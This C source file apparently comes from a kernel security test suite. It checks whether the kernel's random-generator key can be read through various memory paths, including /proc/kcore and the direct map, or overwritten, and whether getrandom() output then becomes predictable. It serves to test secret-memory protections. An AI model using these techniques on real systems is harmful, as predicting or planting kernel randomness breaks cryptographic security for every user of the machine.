// SPDX-License-Identifier: GPL-2.0-only
/*
 * The key of the kernel's random generator. Who knows it computes what the
 * kernel will answer next, and shows that: getrandom() says what was foretold.
 *
 * Other users of the generator may come between, so each has several tries.
 */
#include <errno.h>
#include <string.h>
#include <sys/random.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"
#include "chacha.h"
#include "cpus.h"
#include "list.h"

#define TRIES	50

/* Gets the key from an address; 0 or -errno. */
typedef int get_key(uint64_t addr, unsigned char key[CHACHA_KEY]);

/* Secrets have a place of their own; without, the key is where its users are. */
static uint64_t cpu_key(void)
{
	uint64_t addr = ksymbol_cpu("crng_keys", 0);

	return addr ? addr : ksymbol_cpu("crngs", 0);
}

static uint64_t base_key(void)
{
	uint64_t addr = ksymbol("base_crng_key");

	return addr ? addr : ksymbol("base_crng");
}

/* What the kernel notices that this CPU's key is out of date by. */
static uint64_t cpu_generation(void)
{
	return ksymbol_cpu("crngs", 0) + (ksymbol("crng_keys") ? 0 : CHACHA_KEY);
}

static bool answer_is(const unsigned char *foretold)
{
	unsigned char answer[CHACHA_KEY];

	/* Not by the vDSO: that has a state of its own. */
	return syscall(SYS_getrandom, answer, sizeof(answer), GRND_NONBLOCK) ==
	       sizeof(answer) && !memcmp(answer, foretold, sizeof(answer));
}

static enum outcome foreseen(const char *how, const unsigned char *foretold)
{
	return won("%s: the kernel's next random bytes were foretold: %02x%02x%02x%02x...",
		   how, foretold[0], foretold[1], foretold[2], foretold[3]);
}

static enum outcome foretell(get_key *get, uint64_t addr, const char *how)
{
	unsigned char key[CHACHA_KEY], block[CHACHA_BLOCK];
	int i, err;

	if (!addr)
		return broken("no key found");
	stay_on_cpu(0);
	for (i = 0; i < TRIES; i++) {
		memset(key, 0, sizeof(key));
		err = get(addr, key);
		if (err == -EFAULT)
			return lost("access to the key was refused");
		if (err)
			return broken("reading the key gave %s", strerror(-err));
		chacha_first_block(key, block);
		if (answer_is(block + CHACHA_KEY))
			return foreseen(how, block + CHACHA_KEY);
	}
	return lost("the key was not seen in %d tries", TRIES);
}

static int get_by_plain(uint64_t addr, unsigned char *key)
{
	return kload("plain", addr, key, CHACHA_KEY);
}

static int get_by_memcpy(uint64_t addr, unsigned char *key)
{
	return kload("memcpy", addr, key, CHACHA_KEY);
}

static int get_by_nofault(uint64_t addr, unsigned char *key)
{
	return kload("nofault", addr, key, CHACHA_KEY);
}

/* What cannot be read is shown as zeros there. */
static int get_by_kcore(uint64_t addr, unsigned char *key)
{
	static const unsigned char nothing[CHACHA_KEY];
	int err = kcore_read(addr, key, CHACHA_KEY);

	return !err && !memcmp(key, nothing, CHACHA_KEY) ? -EFAULT : err;
}

static int get_by_copy(uint64_t addr, unsigned char *key)
{
	return kcopy(addr, key, CHACHA_KEY);
}

static int put_own(uint64_t addr, unsigned char *key)
{
	memset(key, 'k', CHACHA_KEY);
	return kwrite(addr, key, CHACHA_KEY);
}

/* The key that this CPU takes next comes from the base. */
static int get_from_base(uint64_t addr, unsigned char *key)
{
	unsigned char base[CHACHA_KEY], block[CHACHA_BLOCK];
	int err = kload("nofault", addr, base, sizeof(base));

	if (err)
		return err;
	chacha_first_block(base, block);
	memcpy(key, block + CHACHA_KEY, CHACHA_KEY);
	return kwrite64(cpu_generation(), -1UL);
}

enum outcome rng_key_plain(void)
{
	return foretell(get_by_plain, cpu_key(), "plain loads");
}

enum outcome rng_key_memcpy(void)
{
	return foretell(get_by_memcpy, cpu_key(), "memcpy()");
}

enum outcome rng_key_nofault(void)
{
	return foretell(get_by_nofault, cpu_key(), "copy_from_kernel_nofault()");
}

enum outcome rng_key_kcore(void)
{
	return foretell(get_by_kcore, cpu_key(), "/proc/kcore");
}

enum outcome rng_key_copy_to_user(void)
{
	return foretell(get_by_copy, cpu_key(), "copy_to_user()");
}

enum outcome rng_base_key(void)
{
	struct slot slot;

	if (kwalk(base_key(), LEAF, 0, &slot))
		return broken("no page-table entry found");
	return foretell(get_from_base, slot.alias, "base key in the direct map");
}

enum outcome rng_key_write(void)
{
	return foretell(put_own, cpu_key(), "own key");
}
